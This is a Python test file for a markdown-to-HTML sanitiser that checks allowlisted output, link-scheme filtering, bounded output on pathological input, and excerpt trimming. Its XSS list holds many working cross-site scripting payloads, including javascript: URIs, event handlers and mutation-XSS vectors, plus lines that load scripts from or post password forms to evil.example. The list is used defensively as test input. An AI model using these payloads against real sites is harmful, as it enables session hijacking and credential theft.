"""publishers/rich_text.py: nothing typed becomes markup that is not on the list."""

import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from publishers.rich_text import BLOCKS, ELEMENTS, MAX_LINKED, excerpt, plain, render

LONGEST = 30_000
ENCODED = "https://b.example/%E2%80%AE"


class Auditor(HTMLParser):
    """Reads HTML as a browser would begin to, and keeps all that is not allowed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.offences: list[str] = []
        self.open: list[str] = []
        self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.offences.append(tag)
        for name, value in attrs:
            if not allowed(tag, name, value or ""):
                self.offences.append(f"{tag} {name}={value}")
        if tag not in ("br", "hr"):
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.offences.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.offences.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.offences.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.offences.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.offences.append(f"instruction {data}")


def allowed(tag: str, name: str, value: str) -> bool:
    match tag, name:
        case "a", "href":
            return re.match(r"(?i)(https?://|mailto:)[^\s<>\"]*$", value) is not None
        case "a", "rel":
            return value == "noopener"
        case "ol", "start":
            return value.isdecimal()
    return False


def audited(html: str) -> Auditor:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    auditor.offences += auditor.open
    return auditor


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("", ""),
        ("a *b* **c** ~~d~~", "<p>a <em>b</em> <strong>c</strong> <s>d</s></p>"),
        ("`a`", "<p><code>a</code></p>"),
        ("# A\n## B\n### C", "<h3>A</h3>\n<h3>B</h3>\n<h4>C</h4>"),
        ("#### D\n##### E\n###### F", "<h4>D</h4>\n<h4>E</h4>\n<h4>F</h4>"),
        ("A\n=\nB\n-", "<h3>A</h3>\n<h3>B</h3>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("a\\\nb\n\n---", "<p>a<br>\nb</p>\n<hr>"),
        ("    indented", "<p>indented</p>"),
        ("```\na\n```", "<p><code>a</code></p>"),
        (
            "[a](https://b.example/?c&d=é 'title')",
            '<p><a href="https://b.example/?c&amp;d=%C3%A9" rel="noopener">a</a></p>',
        ),
        (
            "[a](mailto:desk@b.example)",
            '<p><a href="mailto:desk@b.example" rel="noopener">a</a></p>',
        ),
        (
            "[a][1]\n\n[1]: https://b.example",
            '<p><a href="https://b.example" rel="noopener">a</a></p>',
        ),
        (
            f"<{ENCODED}>",
            f'<p><a href="{ENCODED}" rel="noopener">{ENCODED}</a></p>',
        ),
        (
            "![alt](https://b.example/c.png)",
            '<p>!<a href="https://b.example/c.png" rel="noopener">alt</a></p>',
        ),
        ("a & b &lt; &eacute; &#233;", "<p>a &amp; b &lt; é é</p>"),
        ("&shy;&zwj;", "<p>\xad\u200d</p>"),
        ("&#x202e; &#8297;", "<p>&amp;#x202e; &amp;#8297;</p>"),
        ("&#xE0041;", "<p>&amp;#xE0041;</p>"),
        ("e&#x301; &bogus; &", "<p>e&amp;#x301; &amp;bogus; &amp;</p>"),
    ],
)
def test_markdown_becomes_html_of_the_list(markdown: str, html: str) -> None:
    assert render(markdown) == html


@pytest.mark.parametrize(
    "address",
    [
        "/relative",
        "relative",
        "//host.example/x",
        "\\\\host.example/x",
        "https:host.example",
        "https:/host.example",
        "?query",
        "#fragment",
        "ftp://host.example/",
        "blob:https://host.example/x",
        "data:text/html,x",
        "tel:112",
        "",
    ],
)
def test_a_link_that_is_not_absolute_or_of_the_schemes_loses_its_target(
    address: str,
) -> None:
    assert "href" not in render(f"[a]({address})")
    assert "href" not in render(f"[a]\n\n[a]: <{address}>")


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\t\n bar>",
    "<img src=x onerror=alert(1)>",
    '<img srcset="https://evil.example/x 1x" src=x>',
    "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
    '<a href="https://a.example" onfocus=alert(1) autofocus>x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](javascript&#x3A;alert&lpar;1&rpar;)",
    "[x](java%0ascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/ '\"><script>alert(1)</script>')",
    '[x](<https://a.example/"><script>alert(1)</script>>)',
    "[<script>alert(1)</script>](https://a.example)",
    "[x]: javascript:alert(1)\n\n[x] [y][x] [x][]",
    "[x]: data:text/html,<script> 'a'\n\n![x]",
    "[x]: https://a.example '\"onclick=alert(1) \"'\n\n[x]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onclick=alert(1)>',
    '<a@b.example"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    '![x](https://a.example/x.png "onerror=alert(1)")',
    '![" onerror="alert(1)](x)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=password><button>x</form>",
    "<a id=location name=location>x</a><img name=cookie>",
    "<h3 id=top class=x># {#id .class onclick=x}",
    "# x {#id onclick=alert(1)}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet>",
    "<video src=x onerror=alert(1)><audio><source srcset=x>",
    "<textarea></textarea><title></title><plaintext><xmp><listing>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><?php system('x') ?>",
    "<a href='x'<b onclick=alert(1)>",
    "<<script>alert(1)//<</script>",
    "`</code><script>alert(1)</script>`",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "99999999999. x\n\n999999999. y",
]


@pytest.mark.parametrize("attack", XSS)
def test_an_attack_never_leaves_the_list(attack: str) -> None:
    for markdown in (
        attack,
        f"a *{attack}* b",
        f"> - {attack}\n\n{attack}",
        attack * 3,
    ):
        assert audited(render(markdown)).offences == []


@pytest.mark.parametrize("attack", XSS)
def test_an_attack_in_html_is_only_text_in_plain(attack: str) -> None:
    assert audited(escape(plain(attack))).offences == []
    assert audited(render(plain(attack))).offences == []


fragments = st.lists(
    st.sampled_from(
        [
            *XSS,
            *"*_~`[]()<>!#-+=&\\\"'\n\t :/",
            "**",
            "](",
            "](<",
            "\n\n",
            "\n> ",
            "\n- ",
            "\n1. ",
            "\n# ",
            "https://a.example",
            "javascript:",
            "[a]: ",
            "&#x202e;",
            "word",
            "ä",
        ]
    )
    | st.text(max_size=5),
    max_size=25,
).map("".join)


@given(fragments)
def test_no_markdown_leaves_the_list(markdown: str) -> None:
    html = render(markdown)
    assert audited(html).offences == []
    assert "\u202e" not in html or "\u202e" in markdown


@given(fragments)
def test_text_without_angles_and_entities_has_none_in_plain(markdown: str) -> None:
    text = plain(render(re.sub("[<>&]", "", markdown)))
    assert not set(text) & set("<>")


words = st.lists(st.from_regex(r"[a-z]{1,8}", fullmatch=True), min_size=1, max_size=8)


@given(st.lists(st.tuples(st.sampled_from(sorted(BLOCKS)), words), max_size=8))
def test_plain_never_glues_words_of_two_blocks(
    blocks: list[tuple[str, list[str]]],
) -> None:
    html = "".join(f"<{tag}>{' '.join(inner)}</{tag}>" for tag, inner in blocks)
    assert plain(html).split() == [word for _, inner in blocks for word in inner]


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", ""),
        ("<p>One <em>two</em>, <b>thr</b>ee.</p>", "One two, three."),
        ("<h3>Head</h3><p>a<br>b</p><hr><p>c</p>", "Head\na\nb\nc"),
        ("<ul>\n<li>a</li>\n<li>b</li>\n</ul>", "a\nb"),
        ("<p>a\n  b\t<em> c </em> d</p>\n", "a b c d"),
        ("<p>&lt;b&gt; &amp;amp; &eacute; 5&nbsp;%</p>", "<b> &amp; é 5\xa0%"),
        ("<p>a<script>alert(1)</script><style>p{}</style><!-- x -->b</p>", "ab"),
        ("<p>unclosed <em", "unclosed"),
        ("<a href='https://a.example' rel=x title=y id=z>a</a>", "a"),
        ("a < b & c", "a < b & c"),
    ],
)
def test_plain_keeps_words_and_blocks_apart(html: str, text: str) -> None:
    assert plain(html) == text


BOMBS = [
    ">",
    "> ",
    "- ",
    "1. ",
    "*",
    "*a ",
    "**a *a ",
    "***",
    "*a_ ",
    "~~a",
    "[",
    "]",
    "[]",
    "[a](",
    "[a](<b",
    "![",
    "a![",
    "[*",
    "[<a",
    "[a\n",
    "[a]: b '",
    "[a]: b\n",
    "`",
    "`a",
    "\\",
    "<",
    "<!--",
    "<a b='",
    "&#",
    "&amp;",
    "a\n",
    "> a\n",
    ">\n",
    "- a\n",
    "a  \n",
    "- - - - - - - - - a\n\n",
    "\t",
    "#",
    "=\n",
]


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_of_the_longest_size_is_small_and_flat(bomb: str) -> None:
    html = render((bomb * LONGEST)[:LONGEST])
    auditor = audited(html)
    assert auditor.offences == []
    assert auditor.deepest < 32
    assert len(html) < 10 * LONGEST
    assert len(plain(html)) <= LONGEST


@pytest.mark.parametrize(
    "markdown",
    ["*a " * 7_000 + "a* " * 7_000, "*a **b " * 4_000 + "b** a* " * 4_000],
)
def test_emphasis_nests_only_so_deep(markdown: str) -> None:
    html = render(markdown)
    assert audited(html).offences == []
    assert audited(html).deepest <= 11


def test_what_is_nested_too_deep_stays_as_text() -> None:
    assert plain(render("> " * 15 + "the end")) == "> > > > > the end"
    assert plain(render("- " * 15 + "the end")).endswith("- the end")
    assert plain(render("*" * 24 + "a" + "*" * 24)) == "a"


def test_a_reference_cannot_repeat_a_long_address_for_ever() -> None:
    address = "https://a.example/" + "x" * 10_000
    html = render(f"[a]: {address}\n\n" + "[a] " * 5_000)
    assert html.count(address) == MAX_LINKED // len(address)
    assert html.count(">a</a>") == 5_000


@pytest.mark.parametrize(
    ("text", "limit", "expected"),
    [
        ("", 5, ""),
        ("short", 5, "short"),
        ("one two three", 12, "one two…"),
        ("one two three", 8, "one two…"),
        ("one two three", 7, "one…"),
        ("one, two — three", 12, "one, two…"),
        ("one\n two\tthree", 13, "one two three"),
        ("unbreakable", 6, "unbre…"),
        ("a unbreakable", 8, "a unbre…"),
        ("東京都で大きな地震", 5, "東京都で…"),
        ("cafe\u0301s", 5, "caf…"),
        ("ab👩\u200d🚀d", 4, "ab…"),
        ("ab👩\u200d🚀d", 5, "ab…"),
        ("\u0301\u0301\u0301", 2, "…"),
        ("abc", 1, "…"),
    ],
)
def test_an_excerpt_ends_after_a_word(text: str, limit: int, expected: str) -> None:
    assert excerpt(text, limit) == expected


@given(st.text(), st.integers(1, 40))
def test_an_excerpt_is_a_beginning_within_its_limit(text: str, limit: int) -> None:
    short = excerpt(text, limit)
    flat = " ".join(text.split())
    assert len(short) <= limit
    assert flat.startswith(short.removesuffix("…"))
    assert excerpt(flat, len(flat) + 1) == flat
